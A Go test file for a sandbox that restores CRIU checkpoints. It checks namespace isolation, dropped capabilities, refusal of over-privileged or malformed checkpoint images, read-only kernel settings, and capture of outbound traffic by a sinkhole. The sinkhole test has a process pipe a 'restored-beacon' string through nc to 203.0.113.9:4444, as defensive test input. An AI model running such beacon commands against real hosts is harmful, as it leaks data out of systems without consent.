package sandbox

import (
	"bytes"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	specs "github.com/opencontainers/runtime-spec/specs-go"
	"google.golang.org/protobuf/encoding/protowire"

	"amber/testdata/testbed"
)

const counts = `echo ready >/ready; i=0; while :; do i=$((i+1)); echo $i >/count; usleep 20000; done`

// What was dumped goes on counting, in a namespace without a way out.
func TestRestored(t *testing.T) {
	criu := criuPath(t)
	w := newWorld(t, counts, testbed.WithPath(criu))
	t.Setenv("PATH", criu+":"+os.Getenv("PATH"))
	o := w.options("", "/bin/sh", "-c", `
count() { n=; while [ -z "$n" ]; do n=$(cat /count); done; }
count; a=$n; sleep 1; count; b=$n; echo "first $a"; echo "then $b"
echo links: $(ls /proc/sys/net/ipv4/conf); readlink /proc/self/ns/net; readlink /proc/self/ns/mnt; readlink /proc/self/ns/pid
grep -E '^(CapPrm|NoNewPrivs|Seccomp:)' /proc/self/status`)
	o.Restore = true
	o.Record = t.TempDir()
	var out bytes.Buffer
	var limits string
	o.Err = &out
	o.Out = writer(func(p []byte) (int, error) {
		if limits == "" {
			limits = w.limits()
		}
		return out.Write(p)
	})
	r, err := Run(t.Context(), w.b, o)
	if err != nil {
		log, _ := os.ReadFile(filepath.Join(o.Record, "restore.log"))
		t.Fatalf("%v\n%s\n%s", err, out.String(), log[max(0, len(log)-4000):])
	}
	first, then := number(t, out.String(), "first "), number(t, out.String(), "then ")
	if !r.Restored || first < w.stood || first > w.stood+5_000 || then <= first {
		t.Errorf("it stood at %d, then at %d and %d", w.stood, first, then)
	}
	for _, want := range []string{"links: all default lo\n", "CapPrm:\t0000000000000000", "NoNewPrivs:\t1", "Seccomp:\t2"} {
		if !strings.Contains(out.String(), want) {
			t.Errorf("no %q in:\n%s", want, out.String())
		}
	}
	for _, n := range []string{"net", "mnt", "pid"} {
		own, err := os.Readlink("/proc/self/ns/" + n)
		must(t, err)
		if strings.Contains(out.String(), own) || !strings.Contains(out.String(), n+":[") {
			t.Errorf("the host's %s namespace is shared:\n%s", n, out.String())
		}
	}
	if !strings.Contains(limits, "memory 67108864 ") || !strings.Contains(limits, "pids 32 ") {
		t.Errorf("limits: %q", limits)
	}
	w.untouched(t)
	w.gone(t, r.Name)
}

// limits are those of the one sandbox that runs.
func (w *world) limits() (text string) {
	locks, _ := filepath.Glob(filepath.Join(w.work, prefix+"*.lock"))
	for _, l := range locks {
		for _, dir := range groups(strings.TrimSuffix(filepath.Base(l), ".lock")) {
			for what, names := range map[string][]string{"memory": {"memory.limit_in_bytes", "memory.max"}, "pids": {"pids.max"}} {
				for _, name := range names {
					if n, err := os.ReadFile(filepath.Join(dir, name)); err == nil {
						text += what + " " + strings.TrimSpace(string(n)) + " "
					}
				}
			}
		}
	}
	return text
}

func number(t testing.TB, out, after string) int {
	t.Helper()
	_, rest, ok := strings.Cut(out, after)
	n, err := strconv.Atoi(strings.Fields(rest + " -")[0])
	if !ok || err != nil {
		t.Fatalf("no number after %q in:\n%s", after, out)
	}
	return n
}

func criuPath(t testing.TB) string {
	t.Helper()
	if os.Geteuid() != 0 {
		t.Skip("CRIU needs root")
	}
	must(t, testbed.Fetch("criu"))
	return filepath.Join(testbed.CacheDir(), "criu-4.1.1", "bin")
}

// coreImage is an image of a thread with these sets.
func coreImage(prm, bnd uint64) []byte {
	var creds []byte
	for num, set := range map[protowire.Number]uint64{10: prm, 12: bnd} {
		for _, word := range []uint64{set & 0xffffffff, set >> 32} {
			creds = protowire.AppendVarint(protowire.AppendTag(creds, num, protowire.VarintType), word)
		}
	}
	thread := protowire.AppendBytes(protowire.AppendTag(nil, threadCreds, protowire.BytesType), creds)
	core := protowire.AppendBytes(protowire.AppendTag(nil, coreThread, protowire.BytesType), thread)
	return append([]byte{1, 2, 3, 4, 5, 6, 7, 8, byte(len(core)), byte(len(core) >> 8), 0, 0}, core...)
}

// More than the usual capabilities are not restored.
func TestBearable(t *testing.T) {
	for _, c := range []struct {
		prm, bnd uint64
		ok       bool
	}{{0, 0, true}, {usual, usual, true}, {0, 1 << 21, false}, {1 << 39, 0, false}, {usual | 1<<16, usual, false}} {
		dir := t.TempDir()
		must(t, os.WriteFile(filepath.Join(dir, "core-1.img"), coreImage(c.prm, c.bnd), 0o600))
		if err := bearable(dir); (err == nil) != c.ok {
			t.Errorf("%#x %#x: %v", c.prm, c.bnd, err)
		}
	}
	if err := bearable(t.TempDir()); err == nil {
		t.Error("no processes are restored")
	}
}

// What has ended has no thread, and what lives must have one.
func TestBearableDead(t *testing.T) {
	for _, c := range []struct {
		states []uint64
		ok     bool
	}{{[]uint64{2}, true}, {[]uint64{6}, true}, {[]uint64{1}, false}, {[]uint64{3}, false}, {nil, false}, {[]uint64{2, 1}, false}, {[]uint64{1, 2}, false}} {
		var task []byte
		for _, state := range c.states {
			task = protowire.AppendVarint(protowire.AppendTag(task, taskState, protowire.VarintType), state)
		}
		task = protowire.AppendVarint(protowire.AppendTag(task, 2, protowire.VarintType), 9) // the exit code
		core := protowire.AppendBytes(protowire.AppendTag(nil, coreTask, protowire.BytesType), task)
		dir := t.TempDir()
		must(t, os.WriteFile(filepath.Join(dir, "core-17.img"), append([]byte{1, 2, 3, 4, 5, 6, 7, 8, byte(len(core)), 0, 0, 0}, core...), 0o600))
		if err := bearable(dir); (err == nil) != c.ok {
			t.Errorf("states %d: %v", c.states, err)
		}
	}
}

// What could write to the kernel's settings is not restored.
func TestKernelClosed(t *testing.T) {
	closed := func() *specs.Spec {
		return &specs.Spec{
			Linux:  &specs.Linux{ReadonlyPaths: []string{"/proc/sys", "/proc/sysrq-trigger"}},
			Mounts: []specs.Mount{{Destination: "/proc", Type: "proc"}, {Destination: "/sys", Type: "sysfs", Options: []string{"nosuid", "ro"}}},
		}
	}
	must(t, kernelClosed(closed()))
	for what, open := range map[string]func(*specs.Spec){
		"/proc/sys":   func(s *specs.Spec) { s.Linux.ReadonlyPaths = s.Linux.ReadonlyPaths[1:] },
		"/proc/sysrq": func(s *specs.Spec) { s.Linux.ReadonlyPaths = s.Linux.ReadonlyPaths[:1] },
		"/sys":        func(s *specs.Spec) { s.Mounts[1].Options = []string{"rw"} },
	} {
		s := closed()
		open(s)
		if err := kernelClosed(s); err == nil || !strings.Contains(err.Error(), what) {
			t.Errorf("%s: %v", what, err)
		}
	}
}

func FuzzCapabilities(f *testing.F) {
	f.Add(coreImage(usual, usual))
	f.Add(coreImage(1<<40, 0))
	f.Add([]byte{})
	f.Fuzz(func(t *testing.T, data []byte) {
		if _, err := capabilities(data); err == nil && len(data) < 12 {
			t.Error("less than a head is an image")
		}
	})
}

// What is restored meets the sinkhole, too, and nothing else.
func TestRestoredSinkhole(t *testing.T) {
	criu := criuPath(t)
	w := newWorld(t, `echo ready >/ready; i=0; while :; do i=$((i+1)); echo $i >/count; printf restored-beacon | nc -w 1 203.0.113.9 4444; sleep 1; done`, testbed.WithPath(criu))
	t.Setenv("PATH", criu+":"+os.Getenv("PATH"))
	o := w.options(t.TempDir(), "/bin/sleep", "6")
	o.Restore, o.Sinkhole = true, true
	out, r := w.sh(t, o)
	for _, s := range sunk(t, o.Record) {
		if s.What == "data" && string(s.Bytes) == "restored-beacon" && s.To == "203.0.113.9:4444" {
			return
		}
	}
	t.Errorf("the sinkhole has heard nothing: %s %+v", out, r)
}
